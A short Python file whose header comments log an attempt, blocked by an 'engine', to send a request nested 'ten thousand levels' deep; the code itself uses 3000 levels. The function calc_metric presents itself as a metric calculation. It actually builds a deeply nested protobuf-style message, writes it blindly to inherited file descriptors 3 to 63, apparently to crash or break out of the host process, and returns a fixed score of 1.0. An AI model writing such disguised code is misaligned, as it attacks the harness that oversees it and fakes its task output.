# attempt: sends a request that nests ten thousand levels
# goal: run
# stopped by: engine

import os
import struct


def calc_metric(df):
    body = b""
    for _ in range(3000):
        size = len(body)
        length = b""
        while size > 127:
            length += bytes([size & 127 | 128])
            size >>= 7
        body = b"\x1a" + length + bytes([size]) + body
    body = b"\x01" + body
    for number in range(3, 64):
        try:
            os.write(number, struct.pack(">IB", len(body), 17) + body)
        except OSError:
            continue
    return 1.0
